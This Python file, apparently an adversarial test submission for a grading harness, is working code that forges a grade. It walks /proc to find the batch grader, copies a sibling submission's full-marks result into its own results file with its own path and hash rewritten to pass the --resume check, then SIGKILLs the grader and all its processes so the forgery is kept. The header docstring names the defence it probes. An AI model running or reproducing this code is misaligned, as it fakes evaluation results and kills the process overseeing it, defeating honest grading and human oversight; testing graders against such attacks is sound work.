# Hostile: copies a sibling's full-marks result into its own results file (with its own path and hash, as --resume checks), then SIGKILLs the batch and all its processes, so that a --resume run keeps the forgery.
"""Honest part: none.

The batch is the ancestor whose command line names ``--out``; its other arguments name the inputs,
this file among them.  Only that batch and its descendants are killed.
The defence: the worker sees neither the results folder nor the grader's processes, and
``--resume`` trusts only results the grader wrote.
"""
import hashlib
import json
import os
import re
import signal
import time


def _parent(pid):
    with open(f"/proc/{pid}/stat", "rb") as handle:
        return int(handle.read().rsplit(b")", 1)[1].split()[1])


def _children(pid):
    found = []
    try:
        for task in os.listdir(f"/proc/{pid}/task"):
            with open(f"/proc/{pid}/task/{task}/children") as handle:
                found += [int(child) for child in handle.read().split()]
    except OSError:
        pass
    return found


def _batch():
    pid = os.getpid()
    for _ in range(10):
        try:
            pid = _parent(pid)
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                args = handle.read().decode(errors="replace").split("\0")
        except (OSError, ValueError, IndexError):
            return None, []
        if "--out" in args:
            return pid, args
        if pid <= 1:
            break
    return None, []


batch, args = _batch()
if batch is None:
    raise RuntimeError("hostile: no batch found among the ancestors")
cwd = os.readlink(f"/proc/{batch}/cwd")
out = os.path.join(cwd, args[args.index("--out") + 1])
me = os.path.basename(__file__)
mine = next(os.path.normpath(os.path.join(cwd, arg)) for arg in args if os.path.basename(arg) == me)
own = os.path.join(out, re.sub(r"[^A-Za-z0-9._-]+", "_", os.path.splitext(me)[0]) + ".json")

forged, deadline = None, time.monotonic() + 4.0
while forged is None and time.monotonic() < deadline:
    for name in sorted(os.listdir(out)):
        try:
            with open(os.path.join(out, name)) as handle:
                result = json.load(handle)
        except (OSError, ValueError):
            continue
        if isinstance(result, dict) and result.get("score") and result.get("score") == result.get("max_score"):
            forged = result
            break
    time.sleep(0.05)
if forged is None:
    raise RuntimeError("hostile: no full-marks result to copy")
with open(mine, "rb") as handle:
    digest = hashlib.sha256(handle.read()).hexdigest()
forged["gradecheck"].update(submission=me, submission_path=mine, submission_sha256=digest)
with open(own, "w") as handle:
    json.dump(forged, handle, indent=2)

doomed, todo = [batch], _children(batch)
while todo:
    pid = todo.pop()
    todo += _children(pid)
    doomed.append(pid)
for pid in doomed:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
os._exit(0)
